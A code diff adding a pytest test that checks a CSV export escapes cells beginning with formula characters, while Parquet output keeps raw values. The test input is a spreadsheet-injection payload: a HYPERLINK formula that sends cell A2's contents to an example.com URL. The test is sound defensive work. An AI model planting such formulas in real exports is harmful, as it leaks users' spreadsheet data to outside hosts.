@@ -50,6 +50,18 @@ def test_a_row_for_each_rule_now_or_before(rules, before, expected):
 ROWS = list(rows_of(result([rule("A", "IssuesFound", 7)], [rule("B", "Error")])))
 
 
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
+def test_no_cell_of_the_csv_is_a_formula(tmp_path, begin):
+    text = f'{begin}HYPERLINK("https://example.com/?"&A2,"open")'
+    named = {**result([rule(text, "IssuesFound", 7, StatusDetails=text)], []), "job": text}
+    table, parquet_table = write_tables(list(rows_of(named)), tmp_path / "t")
+    with table.open(newline="", encoding="utf-8") as file:
+        (row,) = csv.DictReader(file)
+    assert (row["rule"], row["job"], row["details"]) == (f"'{text}",) * 3
+    assert row["step"] == "7"
+    assert parquet.read_table(parquet_table).to_pylist()[0]["rule"] == text
+
+
 def test_csv_has_every_cell(tmp_path):
     table, *_ = write_tables(ROWS, tmp_path / "v1.2")
     assert table == tmp_path / "v1.2.csv"
